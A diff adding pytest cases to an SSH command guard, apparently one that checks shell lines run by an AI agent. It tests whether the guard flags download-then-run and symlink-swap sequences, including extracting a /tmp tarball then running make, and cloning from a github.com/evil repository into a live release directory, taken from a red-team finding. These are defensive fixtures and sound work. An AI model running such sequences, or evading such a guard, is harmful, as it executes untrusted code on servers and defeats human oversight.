@@ -76,6 +76,10 @@ def test_a_line_classified_on_the_event_loop_is_one_plain_command(line):
     assert len(result.commands) <= len(words) and len(result.problems) <= 1
     for c in result.commands:
         assert not any(c.dynamic) and not c.redirects
+        if "fallback" in c.via:
+            # a syntax error (``then 0 then``): held as unparseable whatever it holds
+            assert result.problems, line
+            continue
         assert words[len(words) - len(c.argv):] == c.argv, (line, c.argv)
 
 
@@ -113,3 +117,66 @@ def test_long_lines_take_turns_in_a_lane_of_their_own():
     assert hooks._lane("ls -la /srv/app | head") is hooks._guard
     assert hooks._lane("x" * LONG_LINE) is hooks._guard
     assert hooks._lane("echo " + "$(x)" * (LONG_LINE // 4)) is hooks._guard_long
+
+
+def _shell_session(lines: list[tuple[str, str]]) -> list:
+    """Classify ``(cwd as the shell reports it, line)`` pairs in order through the deployed
+    hooks' write memory, as a gated shell's lines are (each taken to have run)."""
+    from sshgate.guard.memory import WriteMemory
+    from sshgate.policy.evaluate import classify_for
+    from sshgate.policy.model import Policy
+
+    hooks = object.__new__(DeployedHooks)
+    hooks.write_memory, hooks.fleet, hooks.config = WriteMemory(), None, None
+    auth = SimpleNamespace(login="u", identity=SimpleNamespace(name="agent"),
+                           target=SimpleNamespace(name="web"))
+    conn = SimpleNamespace(authorization=auth)
+    session = SimpleNamespace(mode="shell", shell_memory=None, shell_cwd="")
+    out = []
+    for cwd, line in lines:
+        session.shell_cwd = cwd
+        c = classify_for(Policy(), line, True, hooks.earlier(conn, session), cwd)
+        out.append(c)
+        assert asyncio.run(hooks.remember(conn, session, line, c)) is None
+    return out
+
+
+@pytest.mark.parametrize("gap", [["ls"], ["ls", "pwd"], []])
+def test_a_gated_shell_in_a_subdirectory_keeps_its_writes_where_they_landed(gap):
+    """The shell reports its directory with each line and the guard resolves the line's
+    relative paths there (relative to the login's start directory): the memory places what
+    a line wrote from that start, however many lines the shell stays in the subdirectory
+    (before, a line in between placed later writes under app/app/...)."""
+    lines = [("", "cd app"), *[("app", g) for g in gap],
+             ("app", "tar -xzf /tmp/e.tgz -C sub"), *[("app", g) for g in gap],
+             ("app", "cd sub && make")]
+    *_, last = _shell_session(lines)
+    assert "exec.download-then-run" in {f.rule for f in last.findings}, last.findings
+    # from elsewhere, in the other spellings of the same tree
+    for cwd, line in [("", "make -C app/sub"), ("/", "cd /home/u/app/sub && make"),
+                      ("app/sub", "make")]:
+        *_, c = _shell_session([*lines[:-1], (cwd, line)])
+        assert {f.rule for f in c.findings} & {"exec.download-then-run", "guard.unknown"}, \
+            (cwd, line)
+
+
+def test_a_gated_shell_look_alike_stays_allowed():
+    """The operator's own tree, in the same shell: nothing of it was written."""
+    *_, last = _shell_session([("", "cd app"), ("app", "ls"), ("app", "tar -xzf /tmp/e.tgz -C "
+                                                               "sub"), ("app", "cd own && make")])
+    assert last.findings == (), last.findings
+
+
+def test_a_gated_shell_holds_a_release_filled_after_its_switch():
+    """Red team s9b F4 through the hooks' memory: the switch leaves its target live, the
+    clone into it from the releases directory (a plain tree write there) is held."""
+    *first, last = _shell_session([
+        ("", "ln -sfn releases/20261201 ~/app/current"), ("", "cd app/releases"),
+        ("app/releases", "ls"),
+        ("app/releases", "git clone https://github.com/evil/x 20261201")])
+    assert all(c.findings == () for c in first), [c.findings for c in first]
+    assert "fs.link-sensitive" in {f.rule for f in last.findings}, last.findings
+    *_, other = _shell_session([
+        ("", "ln -sfn releases/20261201 ~/app/current"), ("", "cd app/releases"),
+        ("app/releases", "git clone https://github.com/evil/x 20261202")])
+    assert other.findings == (), other.findings
